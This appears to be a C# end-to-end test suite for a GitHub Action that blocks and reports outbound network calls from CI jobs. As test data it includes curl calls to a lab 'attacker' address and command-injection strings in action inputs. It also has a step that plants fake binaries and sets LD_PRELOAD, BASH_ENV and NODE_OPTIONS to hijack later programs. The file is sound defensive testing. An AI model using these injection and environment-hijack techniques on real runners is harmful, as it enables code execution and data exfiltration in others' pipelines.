@@ -1,0 +1,209 @@
+using System.Text.Json;
+using Sallyport.EndToEnd.Tests.Machine;
+using Sallyport.Lab;
+
+namespace Sallyport.EndToEnd.Tests;
+
+/// <summary>The Action in a job: it installs the agent, starts it, and says at the end what was refused.</summary>
+public sealed class ActionTests(MachineFixture fixture) : IClassFixture<MachineFixture>
+{
+    private const string Attacker = $"curl -sS --max-time 5 http://{LabAddresses.Attacker}";
+
+    /// <summary>The Action's inputs, lines of YAML; then steps, lines of YAML.</summary>
+    private static string Workflow(string inputs, string steps) => $"""
+        name: Action
+        on: push
+        jobs:
+          build:
+            runs-on: ubuntu-24.04
+            steps:
+              - name: Harden Runner
+                id: protect
+                uses: step-security/harden-runner@rc
+                with:
+                  {inputs.ReplaceLineEndings("\n          ")}
+              {steps.ReplaceLineEndings("\n      ")}
+        """;
+
+    private const string Block = """
+        egress-policy: block
+        allowed-endpoints: >
+          github.com:443
+          v4.test:80
+        """;
+
+    private const string Calls = $"""
+        - name: Checkout
+          uses: actions/checkout@v4
+        - name: Call out
+          id: call
+          run: |
+            cat README.md
+            curl -sS --max-time 5 http://v4.test/allowed
+            {Attacker}/out || echo "curl says $?"
+        """;
+
+    [Fact]
+    public async Task In_block_mode_it_protects_and_reports()
+    {
+        WorkflowRun run = await RunAsync(Workflow(Block, Calls));
+        Assert.True(run.ConclusionOf() == "success", run.ToString());
+        Assert.True(run.Traffic.Contains("/allowed "), run.ToString());
+        Assert.False(run.Traffic.Contains("/out "), run.ToString());
+        Assert.Equal(["refused"], run.Report.Verdicts("call", LabAddresses.Attacker));
+        Assert.Equal("enforcing", run.Report.InForce);
+        Assert.True(run.Report.IsComplete, run.ToString());
+
+        JsonElement post = run.Step("Post Harden Runner");
+        string summary = post.GetProperty("summary").GetString()!;
+        Assert.Contains(LabAddresses.Attacker, summary, StringComparison.Ordinal);
+        Assert.Contains("Call out", summary, StringComparison.Ordinal);
+        JsonElement annotation = Assert.Single(post.GetProperty("annotations").EnumerateArray());
+        string message = $"{annotation.GetProperty("title")} {annotation.GetProperty("message")}";
+        Assert.All(["Call out", "curl", LabAddresses.Attacker], text => Assert.Contains(text, message, StringComparison.Ordinal));
+        JsonElement outputs = post.GetProperty("outputs");
+        Assert.Equal("1", outputs.GetProperty("refused").GetString());
+        Assert.EndsWith("report.json", outputs.GetProperty("report").GetString(), StringComparison.Ordinal);
+        Assert.EndsWith(".zst", outputs.GetProperty("recording").GetString(), StringComparison.Ordinal);
+        Assert.Equal("0", outputs.GetProperty("findings").GetString());
+
+        // Nothing but the runner itself comes after our post.
+        Assert.Equal(
+            ["Post Harden Runner", "Complete job"],
+            run.Result.GetProperty("jobs")[0].GetProperty("steps").EnumerateArray()
+                .OrderBy(step => step.GetProperty("number").GetInt32()).Select(step => step.GetProperty("name").GetString()).TakeLast(2));
+    }
+
+    [Fact]
+    public async Task Without_inputs_it_watches_and_says_why()
+    {
+        WorkflowRun run = await RunAsync(Workflow("disable-telemetry: true", Calls));
+        Assert.True(run.ConclusionOf() == "success", run.ToString());
+        Assert.True(run.Traffic.Contains("/out "), run.ToString());
+        Assert.Equal(["observed"], run.Report.Verdicts("call", LabAddresses.Attacker));
+        Assert.Contains("audit", run.TextOf("Pre Harden Runner"), StringComparison.Ordinal);
+        Assert.Contains(LabAddresses.Attacker, run.Step("Post Harden Runner").GetProperty("summary").GetString(), StringComparison.Ordinal);
+    }
+
+    [Fact]
+    public async Task Fail_on_decides_the_colour_of_the_job()
+    {
+        WorkflowRun run = await RunAsync(Workflow($"{Block}\nfail-on: refused", Calls));
+        Assert.Equal("failure", run.Step("Post Harden Runner").GetProperty("conclusion").GetString());
+        Assert.Equal("failure", run.ConclusionOf());
+        Assert.Contains(
+            run.Step("Post Harden Runner").GetProperty("annotations").EnumerateArray(),
+            annotation => annotation.GetProperty("title").GetString() == "fail-on");
+    }
+
+    [Fact]
+    public async Task Every_mistake_is_an_annotation_with_its_line_and_the_step_fails()
+    {
+        const string Inputs = """
+            egress-policy: block
+            allowed-endpoints: |
+              github.com:443
+              not_a_host!:443
+              v4.test:99999
+            """;
+        WorkflowRun run = await RunAsync(Workflow(Inputs, Calls));
+        Assert.Equal("failure", run.ConclusionOf());
+        JsonElement step = run.Step("Pre Harden Runner");
+        Assert.Equal("failure", step.GetProperty("conclusion").GetString());
+        string[] messages = [.. step.GetProperty("annotations").EnumerateArray().Select(a => a.ToString())];
+        Assert.Contains(messages, m => m.Contains("not_a_host!", StringComparison.Ordinal) && m.Contains('2', StringComparison.Ordinal));
+        Assert.Contains(messages, m => m.Contains("99999", StringComparison.Ordinal) && m.Contains('3', StringComparison.Ordinal));
+        Assert.False(run.Traffic.Contains("/out "), run.ToString());
+    }
+
+    [Theory]
+    [InlineData("egress-policy: block\nallowed-endpoints: '$(touch $SIGNS/owned) `touch $SIGNS/owned`'")]
+    [InlineData("egress-policy: '\"; touch $SIGNS/owned; \"'")]
+    [InlineData("egress-policy: block\nfail-on: '$(touch $SIGNS/owned)'")]
+    public async Task Inputs_are_never_commands(string inputs)
+    {
+        using StartedRun started = Start(Workflow(inputs, Calls));
+        WorkflowRun run = await started.EndAsync();
+        Assert.False(File.Exists(Path.Combine(started.Folder, "owned")), run.ToString());
+        Assert.Equal("failure", run.ConclusionOf());
+        Assert.Equal("failure", run.Step("Pre Harden Runner").GetProperty("conclusion").GetString());
+    }
+
+    [Fact]
+    public async Task What_steps_leave_in_the_environment_does_not_reach_its_end()
+    {
+        // A step's own word for what it may call is taken by nobody; what every program of the job loads, the agent does not.
+        const string Steps = $$"""
+            - name: Leaves traps
+              run: |
+                mkdir -p "$SIGNS/bin"
+                for name in node sudo sallyport sh git; do
+                  printf '#!/bin/sh\necho %s >> %s/taken\nexit 0\n' $name "$SIGNS" > "$SIGNS/bin/$name"
+                  chmod 755 "$SIGNS/bin/$name"
+                done
+                echo "$SIGNS/bin" >> "$GITHUB_PATH"
+                printf 'touch %s/sourced\n' "$SIGNS" > "$SIGNS/rc"
+                {
+                  echo "LD_PRELOAD=$PROGRAMS/loaded.so"
+                  echo "LOADED_LOG=$SIGNS/loaded"
+                  echo "BASH_ENV=$SIGNS/rc"
+                  echo "ENV=$SIGNS/rc"
+                  echo "INPUT_FAIL-ON=never"
+                  echo "SALLYPORT=$SIGNS/bin/sallyport"
+                } >> "$GITHUB_ENV"
+                echo "NODE_OPTIONS=--require $SIGNS/rc" >> "$GITHUB_ENV" || true
+            - name: Calls out
+              id: call
+              run: |
+                {{Attacker}}/out || echo "curl says $?"
+            """;
+        using StartedRun started = Start(Workflow($"{Block}\nfail-on: refused", Steps));
+        WorkflowRun run = await started.EndAsync();
+        Assert.Contains(
+            LabAddresses.Attacker, run.Step("Post Harden Runner").GetProperty("summary").GetString(), StringComparison.Ordinal);
+        Assert.Equal("failure", run.Step("Post Harden Runner").GetProperty("conclusion").GetString());
+        string loaded = await File.ReadAllTextAsync(
+            Path.Combine(started.Folder, "loaded"), TestContext.Current.CancellationToken);
+        Assert.Contains("curl", loaded, StringComparison.Ordinal);
+        Assert.DoesNotContain("sallyport", loaded, StringComparison.Ordinal);
+        Assert.False(File.Exists(Path.Combine(started.Folder, "taken")), run.ToString());
+    }
+
+    [Fact]
+    public async Task A_post_of_another_action_is_judged_too()
+    {
+        const string Steps = $"""
+            - name: Late
+              uses: test/late@v1
+              with:
+                script: {Attacker}/late-out
+            """;
+        WorkflowRun control = await fixture.Machine.RunAsync(
+            Workflow("egress-policy: audit", Steps).Replace("step-security/harden-runner@rc", "test/late@v1", StringComparison.Ordinal));
+        Assert.True(control.Traffic.Contains("/late-out "), control.ToString());
+        WorkflowRun run = await RunAsync(Workflow(Block, Steps));
+        Assert.False(run.Traffic.Contains("/late-out "), run.ToString());
+        Assert.Equal(["refused"], run.Report.Connections.Where(row => JobReport.Text(row, "address") == LabAddresses.Attacker)
+            .Select(row => JobReport.Text(row, "verdict")));
+        string[] order = [.. run.Result.GetProperty("jobs")[0].GetProperty("steps").EnumerateArray()
+            .Where(step => step.GetProperty("stage").GetString() == "Post"
+                && step.GetProperty("name").GetString() != "Complete job").OrderBy(step => step.GetProperty("number").GetInt32())
+            .Select(step => step.GetProperty("name").GetString()!)];
+        Assert.Equal(["Post Late", "Post Harden Runner"], order);
+        Assert.Contains(
+            LabAddresses.Attacker, run.Step("Post Harden Runner").GetProperty("summary").GetString(), StringComparison.Ordinal);
+    }
+
+    private async Task<WorkflowRun> RunAsync(string workflow)
+    {
+        using StartedRun run = Start(workflow);
+        return await run.EndAsync();
+    }
+
+    /// <summary>As on a hosted runner: a user with sudo, no agent in the image.</summary>
+    private StartedRun Start(string workflow)
+    {
+        fixture.Machine.Network.World.Clear();
+        return fixture.Machine.Start(workflow, "--user", RunnerMachine.User);
+    }
+}
